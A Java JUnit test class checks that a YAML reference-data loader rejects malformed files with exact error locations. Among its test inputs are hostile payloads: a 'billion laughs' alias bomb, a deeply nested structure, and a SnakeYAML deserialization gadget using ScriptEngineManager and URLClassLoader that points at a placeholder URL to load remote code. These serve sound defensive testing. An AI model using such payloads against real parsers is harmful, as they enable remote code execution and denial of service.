package nl.partnerscan.data;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.regex.Matcher;
import java.util.regex.Pattern;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import nl.partnerscan.TestData;
import nl.partnerscan.core.ReferenceData;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Every way a data file can be wrong yields one {@link DataException} that says where (file, line,
 * column) and what to do. Each test copies the shipped data and breaks one thing.
 */
class ReferenceDataLoaderTest {
    @TempDir
    Path dir;

    @BeforeEach
    void copyShippedData() throws IOException {
        for (String name : ReferenceDataLoader.FILES) {
            Files.copy(TestData.DATA_DIR.resolve(name), dir.resolve(name));
        }
    }

    private void write(String name, String content) throws IOException {
        Files.writeString(dir.resolve(name), content, StandardCharsets.UTF_8);
    }

    /** Replaces the first occurrence of {@code from} in a data file. */
    private void edit(String name, String from, String to) throws IOException {
        String text = Files.readString(dir.resolve(name), StandardCharsets.UTF_8);
        assertThat(text).as("test set-up: %s contains %s", name, from).contains(from);
        write(name, text.replaceFirst(Pattern.quote(from), Matcher.quoteReplacement(to)));
    }

    /** The 1-based line of the first line in a data file that contains {@code text}. */
    private int lineOf(String name, String text) throws IOException {
        var lines = Files.readAllLines(dir.resolve(name), StandardCharsets.UTF_8);
        for (int i = 0; i < lines.size(); i++) {
            if (lines.get(i).contains(text)) {
                return i + 1;
            }
        }
        throw new AssertionError(text + " not in " + name);
    }

    private DataException loadFails() {
        try {
            ReferenceDataLoader.loadDirectory(dir);
        } catch (DataException e) {
            return e;
        }
        throw new AssertionError("the data loaded, but should have been refused");
    }

    @Test
    void theCopiedDataLoads() {
        ReferenceData data = ReferenceDataLoader.loadDirectory(dir);
        assertThat(data.sectors()).hasSize(12);
        assertThat(ReferenceDataLoader.loadBundled().dataVersion()).isEqualTo(data.dataVersion());
    }

    @Test
    void missingId() throws IOException {
        int line = lineOf("sectors.yaml", "- id: quantum");
        edit("sectors.yaml", "- id: quantum\n", "- ident: quantum\n");
        DataException e = loadFails();
        assertThat(e.file()).endsWith("sectors.yaml");
        assertThat(e.line()).isEqualTo(line);
        assertThat(e.problem()).contains("no value for field 'id'");
    }

    @Test
    void aMisspeltOptionalFieldIsRefusedNotIgnored() throws IOException {
        int line = lineOf("sectors.yaml", "- id: quantum");
        edit("sectors.yaml", "- id: quantum\n", "- id: quantum\n    descripton_nl: \"Kwantum\"\n");
        DataException e = loadFails();
        assertThat(e.file()).endsWith("sectors.yaml");
        assertThat(e.line()).isEqualTo(line + 1);
        assertThat(e.problem()).contains("unknown field 'descripton_nl' in sector 'quantum'")
                .contains("expected one of:").contains("description_nl");
    }

    @Test
    void aMisspeltFieldOfAScoringRuleIsRefused() throws IOException {
        edit("scoring.yaml", "  additional_sector:\n    points: 5\n", "  additional_sector:\n    point: 5\n    points: 5\n");
        DataException e = loadFails();
        assertThat(e.file()).endsWith("scoring.yaml");
        assertThat(e.problem()).contains("unknown field 'point' in topic.additional_sector").contains("points");
    }

    @Test
    void unknownSourceInAReference() throws IOException {
        int line = lineOf("questions.yaml", "source: nctv-2023");
        edit("questions.yaml", "source: nctv-2023", "source: nctv-2032");
        DataException e = loadFails();
        assertThat(e.getMessage()).startsWith(dir.resolve("questions.yaml") + ":" + line + ":13: ");
        assertThat(e.problem()).contains("unknown source 'nctv-2032'").contains("nctv-2023");
    }

    @Test
    void duplicateId() throws IOException {
        int line = lineOf("sectors.yaml", "- id: energy");
        edit("sectors.yaml", "- id: energy", "- id: agrifood");
        DataException e = loadFails();
        assertThat(e.line()).isEqualTo(line);
        assertThat(e.problem()).contains("duplicate sector or technology id 'agrifood'");
    }

    @Test
    void anIdOutsideItsAlphabetIsRefusedWhereItStands() throws IOException {
        int line = lineOf("sectors.yaml", "- id: energy");
        for (String bad : List.of("Energy", "-energy", ".energy", "ener gy", "energie_2")) {
            restore("sectors.yaml");
            edit("sectors.yaml", "- id: energy", "- id: \"" + bad + "\"");
            DataException e = loadFails();
            assertThat(e.line()).as(bad).isEqualTo(line);
            assertThat(e.problem()).as(bad).contains("id '" + bad + "' must be lower-case letters, digits, '-' and '.'");
        }
    }

    @Test
    void chinesePairsAreSplitAtAnyBlankAndEachMustBeTwoCharacters() throws IOException {
        String head = "source: partnerscan\nbased_on: \"a table\"\ntraditional_to_simplified: ";
        // Data texts hold no control characters; spaces and line breaks separate the pairs, however many.
        write("chinese-characters.yaml", head + "|\n    國国  學学\r\n\n      來来 \n");
        assertThat(ReferenceDataLoader.loadDirectory(dir).nameRules().chinese().simplified())
                .containsExactlyInAnyOrderEntriesOf(Map.of((int) '國', (int) '国', (int) '學', (int) '学', (int) '來', (int) '来'));
        write("chinese-characters.yaml", head + "\"國国 國国國\"\n");
        DataException e = loadFails();
        assertThat(e.line()).isEqualTo(3);
        assertThat(e.problem()).contains("each pair is two characters").contains("'國国國'");
        write("chinese-characters.yaml", head + "\"國国\\n國囯\"\n");
        assertThat(loadFails().problem()).contains("has two pairs");
    }

    @Test
    void anOptionalEndingOfStopwordsOnlyIsRefusedWhereItStands() throws IOException {
        int line = lineOf("names.yaml", "  endings: [");
        edit("names.yaml", "  endings: [", "  endings: [\"of the\", ");
        DataException e = loadFails();
        assertThat(e.file()).endsWith("names.yaml");
        assertThat(e.line()).isEqualTo(line);
        assertThat(e.problem()).contains("the ending 'of the' has no word that is not a stopword");
    }

    /** Puts back the shipped copy of a data file. */
    private void restore(String name) throws IOException {
        write(name, Files.readString(TestData.DATA_DIR.resolve(name), StandardCharsets.UTF_8));
    }

    @Test
    void duplicateKeyIsRefusedNotSilentlyOverwritten() throws IOException {
        int line = lineOf("sectors.yaml", "topsector: not_stated");
        edit("sectors.yaml", "    topsector: not_stated\n", "    topsector: not_stated\n    topsector: yes\n");
        DataException e = loadFails();
        assertThat(e.line()).isEqualTo(line + 1);
        assertThat(e.column()).isEqualTo(5);
        assertThat(e.problem()).contains("duplicate key 'topsector'").contains("first at line " + line);
    }

    @Test
    void wrongType() throws IOException {
        edit("questions.yaml", "weight: 15", "weight: fifteen");
        DataException e = loadFails();
        assertThat(e.problem()).contains("'weight'").contains("whole number").contains("'fifteen'");
        assertThat(e.line()).isEqualTo(lineOf("questions.yaml", "weight: fifteen"));
    }

    @Test
    void aListWhereAValueBelongs() throws IOException {
        edit("contacts.yaml", "name_nl: \"Digital Trust Center\"", "name_nl: [Digital, Trust]");
        assertThat(loadFails().problem()).contains("'name_nl'").contains("single value, found a list");
    }

    @Test
    void flagMustBeYesNoOrNotStated() throws IOException {
        edit("sectors.yaml", "topsector: not_stated", "topsector: blank");
        assertThat(loadFails().problem()).contains("yes, no or not_stated").contains("'blank'");
    }

    @Test
    void aSettingThatBlocksNothingIsRefusedWithItsPlace() throws IOException {
        edit("sectors.yaml", "blocks: [\"robot\"", "blocks: [] # \"robot\"");
        DataException e = loadFails();
        assertThat(e.problem()).contains("'blocks'").contains("at least one");
        assertThat(e.line()).isEqualTo(lineOf("sectors.yaml", "blocks: []"));
    }

    @Test
    void anAdaptedCheckNeedsItsSourceSentence() throws IOException {
        edit("questions.yaml", "        based_on: \"Wat bent bereid u in ruil daarvoor te investeren?\"\n", "");
        assertThat(loadFails().problem()).contains("based_on");
    }

    @Test
    void aliasesAreRefused() throws IOException {
        edit("sources.yaml", "  - id: nctv-2023\n", "  - &first\n    id: nctv-2023\n");
        DataException e = loadFails();
        assertThat(e.problem()).contains("anchors and aliases");
        assertThat(e.line()).isEqualTo(lineOf("sources.yaml", "&first"));
    }

    @Test
    void anAliasBombIsRefusedBeforeAnythingExpands() throws IOException {
        StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            char p = (char) (c - 1);
            bomb.append(c).append(": &").append(c).append(" [*").append(p).append(",*").append(p).append(",*").append(p)
                    .append(",*").append(p).append(",*").append(p).append(",*").append(p).append(",*").append(p)
                    .append(",*").append(p).append(",*").append(p).append("]\n");
        }
        write("sources.yaml", bomb.toString());
        DataException e = loadFails();
        assertThat(e.problem()).contains("anchors and aliases");
        assertThat(e.line()).isEqualTo(1);
    }

    @Test
    void tagsThatNameJavaClassesAreRefused() throws IOException {
        edit("sources.yaml", "data_version: \"2026.11-1\"",
                "data_version: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://example.invalid/\"]]]]");
        DataException e = loadFails();
        assertThat(e.problem()).contains("tag").contains("javax.script.ScriptEngineManager").contains("not allowed");
        assertThat(e.line()).isEqualTo(lineOf("sources.yaml", "ScriptEngineManager"));
    }

    @Test
    void deepNestingIsRefused() throws IOException {
        write("sources.yaml", "a: " + "[".repeat(200) + "]".repeat(200) + "\n");
        DataException e = loadFails();
        assertThat(e.problem()).contains("nesting deeper than 32");
        assertThat(e.line()).isEqualTo(1);
        assertThat(e.column()).as("the 32nd [ (the file's own map is the first level)").isEqualTo(3 + 32);
    }

    @Test
    void aFileOverTheSizeBoundIsRefused() throws IOException {
        write("contacts.yaml", "# " + "x".repeat(SafeYaml.MAX_BYTES) + "\n");
        DataException e = loadFails();
        assertThat(e.file()).endsWith("contacts.yaml");
        assertThat(e.problem()).contains("larger than").contains("1 MiB");
    }

    @Test
    void bytesThatAreNotUtf8AreRefused() throws IOException {
        Files.write(dir.resolve("contacts.yaml"), "contacts: [caf\u00e9]".getBytes(StandardCharsets.ISO_8859_1));
        assertThat(loadFails().problem()).contains("not UTF-8");
    }

    @Test
    void brokenYamlSaysWhere() throws IOException {
        write("questions.yaml", "questions:\n  - id: q1\n    question_nl: \"unclosed\n");
        DataException e = loadFails();
        assertThat(e.problem()).startsWith("not valid YAML");
        assertThat(e.line()).isGreaterThanOrEqualTo(3);
    }

    @Test
    void anEmptyFileIsRefused() throws IOException {
        write("scoring.yaml", "");
        assertThat(loadFails().getMessage()).endsWith("scoring.yaml: the file is empty");
    }

    @Test
    void aMissingFileNamesWhatADataDirectoryHolds() throws IOException {
        Files.delete(dir.resolve("questions.yaml"));
        assertThat(loadFails().problem()).contains("no such file").contains("sectors.yaml").contains("questions.yaml");
    }

    @Test
    void aTermListedTwiceIsRefused() throws IOException {
        edit("sectors.yaml", "quoted: [\"Vaccins\"]", "quoted: [\"Vaccins\", \"vaccins\"]");
        assertThat(loadFails().problem()).contains("'vaccins' is listed twice");
    }

    @Test
    void thresholdsMustBeInOrder() throws IOException {
        edit("scoring.yaml", "high: 65", "high: 20");
        assertThat(loadFails().problem()).contains("0 < elevated < high <= 100");
    }

    @Test
    void notADirectory() {
        assertThatThrownBy(() -> ReferenceDataLoader.loadDirectory(dir.resolve("nope")))
                .isInstanceOf(DataException.class).hasMessageContaining("is not a directory");
    }
}
